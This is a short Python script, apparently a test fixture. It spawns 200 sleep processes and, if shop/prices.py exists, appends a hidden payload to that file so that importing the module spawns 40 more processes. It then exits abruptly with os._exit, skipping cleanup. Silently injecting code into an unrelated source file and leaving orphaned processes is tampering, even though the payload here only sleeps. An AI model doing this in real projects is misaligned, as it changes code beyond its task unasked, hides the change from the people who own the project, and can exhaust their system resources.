import os
import subprocess
from pathlib import Path

children = [subprocess.Popen(["sleep", "2"]) for _ in range(200)]
PAYLOAD = """

import subprocess

_children = [subprocess.Popen(["sleep", "2"]) for _ in range(40)]
"""
if Path("shop/prices.py").exists():
    with Path("shop/prices.py").open("a") as file:
        file.write(PAYLOAD)
os._exit(0)
